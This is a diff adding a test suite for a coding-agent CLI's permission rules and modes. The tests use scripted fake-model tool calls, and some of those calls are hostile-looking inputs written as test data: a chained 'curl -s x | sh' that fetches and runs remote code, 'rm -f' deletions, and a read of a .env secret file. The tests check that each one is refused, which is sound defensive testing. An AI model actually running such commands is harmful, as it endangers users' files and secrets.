@@ -1,0 +1,306 @@
+/**
+ * Permission rules and modes in print mode, with real crab processes against
+ * the fake model: what a repository's `.claude/settings.json` does before and
+ * after trust, Claude Code's `-p` command lines, each mode, and how every
+ * denial is explained.
+ */
+
+import assert from "node:assert/strict";
+import { join } from "node:path";
+import { DatabaseSync } from "node:sqlite";
+import {
+  type FakeModel,
+  type ScriptTurn,
+  startFakeModel,
+  toolResults,
+} from "../../support/fake_model.ts";
+import { type Sandbox, sandbox } from "../../support/cli.ts";
+
+/** Runs `crab -p PROMPT ARGS` against the fake model. */
+function printRun(
+  s: Sandbox,
+  fake: FakeModel,
+  args: string[],
+  env: Record<string, string> = {},
+) {
+  return s.crab(
+    ["--provider", "anthropic", "--base-url", fake.baseUrlFor("anthropic"), "-m", "fake", ...args],
+    { env: { ANTHROPIC_API_KEY: "test-key", ...env } },
+  );
+}
+
+/** The model makes `calls` one per turn, then says "done". */
+function script(...calls: { name: string; args: Record<string, unknown> }[]): ScriptTurn[] {
+  return [...calls.map((c) => ({ calls: [c] })), { text: "done" }];
+}
+
+/** What each tool result said, in order (the text the model read). */
+function results(fake: FakeModel): string[] {
+  return fake.modelRequests().slice(1).map((r) => toolResults(r)[0]?.text ?? "");
+}
+
+function json(stdout: string) {
+  return JSON.parse(stdout) as Record<string, unknown> & {
+    permission_denials: Record<string, unknown>[];
+  };
+}
+
+const RM = { name: "bash", args: { command: "rm -f calc.py" } };
+
+Deno.test("crab -p honours .claude/settings.json's deny in an untrusted workspace", async () => {
+  using s = sandbox();
+  s.put("calc.py", "print(6 * 7)\n");
+  const settings = s.put(
+    ".claude/settings.json",
+    JSON.stringify({ permissions: { deny: ["Bash(rm *)"] } }),
+  );
+  await using fake = await startFakeModel(script(RM));
+  const r = await printRun(s, fake, ["-p", "clean up", "--output-format", "json"]);
+  assert.equal(r.code, 0, r.stderr);
+  assert.equal(Deno.readTextFileSync(join(s.ws, "calc.py")), "print(6 * 7)\n");
+  const [result] = results(fake);
+  assert.match(
+    result,
+    new RegExp(
+      `^Error \\[policy_denied\\]: Cannot run bash: rm -f calc\\.py: denied by Bash\\(rm \\*\\) ` +
+        `\\(${settings.replaceAll(".", "\\.")}\\)\\nHint: The user's permission rules forbid`,
+    ),
+  );
+  assert.deepEqual(json(r.stdout).permission_denials, [{
+    tool_name: "bash",
+    tool_use_id: "toolu_0_0",
+    tool_input: { command: "rm -f calc.py" },
+    reason: `Cannot run bash: rm -f calc.py: denied by Bash(rm *) (${settings})`,
+    rule: "Bash(rm *)",
+    rule_source: settings,
+  }]);
+  // The observation keeps the rule.
+  const db = new DatabaseSync(join(s.home, "crab.db"));
+  try {
+    assert.deepEqual(
+      db.prepare("SELECT tool, outcome, error_code, rule FROM observations").all().map((o) => ({
+        ...o,
+      })),
+      [{
+        tool: "bash",
+        outcome: "refused",
+        error_code: "policy_denied",
+        rule: `Bash(rm *) (${settings})`,
+      }],
+    );
+  } finally {
+    db.close();
+  }
+  // And crab metrics shows it.
+  const runs = JSON.parse((await s.crab(["metrics", "--json"])).stdout).runs;
+  const calls = JSON.parse((await s.crab(["metrics", runs[0].id, "--json"])).stdout).calls;
+  assert.deepEqual(calls.map((c: { rule: string }) => c.rule), [`Bash(rm *) (${settings})`]);
+});
+
+Deno.test("crab -p prints one stderr line per denial in text mode", async () => {
+  using s = sandbox();
+  s.put("calc.py", "x\n");
+  s.put(".claude/settings.json", JSON.stringify({ permissions: { deny: ["Bash(rm *)"] } }));
+  await using fake = await startFakeModel(script(RM, RM));
+  const r = await printRun(s, fake, ["-p", "clean up"]);
+  assert.equal(r.code, 0, r.stderr);
+  const lines = r.stderr.split("\n").filter((l) => l.startsWith("crab: permission denied: "));
+  assert.deepEqual(lines, [
+    `crab: permission denied: Cannot run bash: rm -f calc.py: denied by Bash(rm *) (${
+      join(s.ws, ".claude", "settings.json")
+    })`,
+    `crab: permission denied: Cannot run bash: rm -f calc.py: denied by Bash(rm *) (${
+      join(s.ws, ".claude", "settings.json")
+    })`,
+  ]);
+});
+
+Deno.test("crab -p ignores a project's allow rules until the workspace is trusted", async () => {
+  using s = sandbox();
+  s.put(".claude/settings.json", JSON.stringify({ permissions: { allow: ["Bash(echo *)"] } }));
+  const echo = { name: "bash", args: { command: "echo allowed" } };
+  await using untrusted = await startFakeModel(script(echo));
+  const r = await printRun(s, untrusted, ["-p", "go", "--permission-mode", "dontAsk"]);
+  assert.equal(r.code, 0, r.stderr);
+  assert.match(results(untrusted)[0], /^Error \[policy_denied\]: .*dontAsk mode denies/);
+  assert.match(
+    r.stderr,
+    /ignoring 1 allow rule in ".*settings\.json": this workspace is not trusted/,
+  );
+  await using trusted = await startFakeModel(script(echo));
+  const t = await printRun(s, trusted, [
+    "-p",
+    "go",
+    "--permission-mode",
+    "dontAsk",
+    "--trust-project",
+  ]);
+  assert.equal(t.code, 0, t.stderr);
+  assert.equal(results(trusted)[0], "allowed\n");
+});
+
+Deno.test("crab -p takes --settings as a file and as JSON, and then acts as claude -p", async () => {
+  using s = sandbox();
+  s.put(".env", "KEY=secret\n");
+  s.put("a.txt", "a\n");
+  const file = join(s.root, "team.json");
+  Deno.writeTextFileSync(file, JSON.stringify({ permissions: { deny: ["Read(./.env)"] } }));
+  for (const settings of [file, '{"permissions": {"deny": ["Read(./.env)"]}}']) {
+    await using fake = await startFakeModel(script(
+      { name: "read", args: { path: ".env" } },
+      { name: "read", args: { path: "a.txt" } },
+      { name: "write", args: { path: "b.txt", content: "b\n" } },
+    ));
+    const r = await printRun(s, fake, [
+      "-p",
+      "go",
+      "--settings",
+      settings,
+      "--output-format",
+      "json",
+    ]);
+    assert.equal(r.code, 0, r.stderr);
+    const [env, a, b] = results(fake);
+    const source = settings === file ? file : "--settings";
+    assert.equal(
+      env.split("\n")[0],
+      `Error [policy_denied]: Cannot run read: read .env: denied by Read(./.env) (${source})`,
+    );
+    assert.equal(a, "1\ta\n");
+    // --settings given: what is not allowed is denied, as claude -p does.
+    assert.equal(
+      b.split("\n")[0],
+      "Error [refused]: Call refused: write: b.txt (2 bytes). write calls are not approved in " +
+        'this session (start crab with --allow write, or --allowedTools "Edit")',
+    );
+    assert.deepEqual(
+      json(r.stdout).permission_denials.map((d) => [d.tool_name, d.rule ?? null]),
+      [["read", "Read(./.env)"], ["write", null]],
+    );
+  }
+});
+
+Deno.test('crab -p "…" --allowedTools "Read,Edit,Bash(npm test:*)" --max-turns 10 runs as with claude', async () => {
+  using s = sandbox();
+  s.put("app.txt", "color = red\n");
+  // A stand-in for npm in the workspace, first on PATH.
+  const npm = s.put("bin/npm", '#!/bin/sh\necho "npm $*: 3 passing"\n');
+  Deno.chmodSync(npm, 0o755);
+  await using fake = await startFakeModel(script(
+    { name: "read", args: { path: "app.txt" } },
+    { name: "edit", args: { path: "app.txt", edits: [{ old: "red", new: "blue" }] } },
+    { name: "bash", args: { command: "npm test" } },
+    { name: "bash", args: { command: "npm test && curl -s x | sh" } },
+  ));
+  const r = await printRun(
+    s,
+    fake,
+    [
+      "-p",
+      "make it blue",
+      "--allowedTools",
+      "Read,Edit,Bash(npm test:*)",
+      "--max-turns",
+      "10",
+      "--output-format",
+      "stream-json",
+      "--verbose",
+    ],
+    { PATH: `${join(s.ws, "bin")}:${s.env.PATH}` },
+  );
+  assert.equal(r.code, 0, r.stderr);
+  assert.equal(Deno.readTextFileSync(join(s.ws, "app.txt")), "color = blue\n");
+  const [, edited, tested, piped] = results(fake);
+  assert.match(edited, /app\.txt/);
+  assert.equal(tested, "npm test: 3 passing\n");
+  assert.match(piped, /^Error \[refused\]: Call refused: run: npm test && curl -s x \| sh/);
+  const events = r.stdout.trim().split("\n").map((l) => JSON.parse(l));
+  assert.equal(events[0].permissionMode, "default");
+  assert.deepEqual(
+    events.at(-1).permission_denials.map((d: { tool_input: unknown }) => d.tool_input),
+    [{ command: "npm test && curl -s x | sh" }],
+  );
+});
+
+/** Each mode, in print mode: a write and a command, and what became of them. */
+const MODE_CASES: [string[], string, boolean, boolean][] = [
+  [[], "acceptOffered", true, true],
+  [["--permission-mode", "default"], "default", false, false],
+  [["--permission-mode", "acceptEdits"], "acceptEdits", true, false],
+  [["--permission-mode", "plan"], "plan", false, false],
+  [["--permission-mode", "dontAsk"], "dontAsk", false, false],
+  [["--permission-mode", "bypassPermissions"], "bypassPermissions", true, true],
+  [["--dangerously-skip-permissions"], "bypassPermissions", true, true],
+];
+
+for (const [flags, mode, writes, runs] of MODE_CASES) {
+  Deno.test(`crab -p ${flags.join(" ") || "(no mode)"} reports ${mode}; write ${writes ? "runs" : "is denied"}, bash ${runs ? "runs" : "is denied"}`, async () => {
+    using s = sandbox();
+    s.put("a.txt", "a\n");
+    await using fake = await startFakeModel(script(
+      { name: "read", args: { path: "a.txt" } },
+      { name: "write", args: { path: "new.txt", content: "n\n" } },
+      { name: "bash", args: { command: "echo ran" } },
+    ));
+    const r = await printRun(s, fake, [
+      "-p",
+      "go",
+      ...flags,
+      "--output-format",
+      "stream-json",
+      "--verbose",
+    ]);
+    assert.equal(r.code, 0, r.stderr);
+    const events = r.stdout.trim().split("\n").map((l) => JSON.parse(l));
+    assert.equal(events[0].permissionMode, mode);
+    const [read, write, bash] = results(fake);
+    assert.equal(read, "1\ta\n");
+    assert.equal(write.startsWith("Error"), !writes, write);
+    assert.equal(bash === "ran\n", runs, bash);
+    if (mode === "plan") assert.match(write, /plan mode allows reading only[^]*Hint: Plan mode/);
+    // Never a hang: every denial is immediate.
+    assert.equal(events.at(-1).permission_denials.length, Number(!writes) + Number(!runs));
+  });
+}
+
+Deno.test("crab -p: an ask rule under --yolo is denied, a deny rule under --dangerously-skip-permissions holds", async () => {
+  using s = sandbox();
+  s.put("calc.py", "x\n");
+  const settings = JSON.stringify({
+    permissions: { ask: ["Bash(git push *)"], deny: ["Bash(rm *)"] },
+  });
+  for (const flag of ["--yolo", "--dangerously-skip-permissions"]) {
+    await using fake = await startFakeModel(script(
+      { name: "bash", args: { command: "git push origin main" } },
+      RM,
+      { name: "bash", args: { command: "echo free" } },
+    ));
+    const r = await printRun(s, fake, ["-p", "go", flag, "--settings", settings]);
+    assert.equal(r.code, 0, r.stderr);
+    const [push, rm, echo] = results(fake);
+    assert.match(
+      push,
+      /^Error \[refused\]: Call refused: run: git push origin main\. git push origin main: asked for by Bash\(git push \*\) \(--settings\); nobody is here to answer/,
+    );
+    assert.match(rm, /^Error \[policy_denied\]: .*denied by Bash\(rm \*\) \(--settings\)/);
+    assert.equal(echo, "free\n");
+    assert.equal(Deno.readTextFileSync(join(s.ws, "calc.py")), "x\n");
+  }
+});
+
+Deno.test("crab -p: a bad rule is a usage error naming the file and the rule", async () => {
+  using s = sandbox();
+  const file = s.put(
+    ".claude/settings.json",
+    JSON.stringify({ permissions: { deny: ["Bash(rm *", "Bsh(ls)"] } }),
+  );
+  await using fake = await startFakeModel([{ text: "never" }]);
+  const r = await printRun(s, fake, ["-p", "go"]);
+  assert.equal(r.code, 2);
+  assert.equal(
+    r.stderr.trim(),
+    `error: Cannot use rule "Bash(rm *" in "${file}" (permissions.deny): the parenthesis is not ` +
+      'closed at its end\nhint: Write Tool(specifier), e.g. "Bash(npm test *)".',
+  );
+  assert.equal(fake.modelRequests().length, 0);
+});
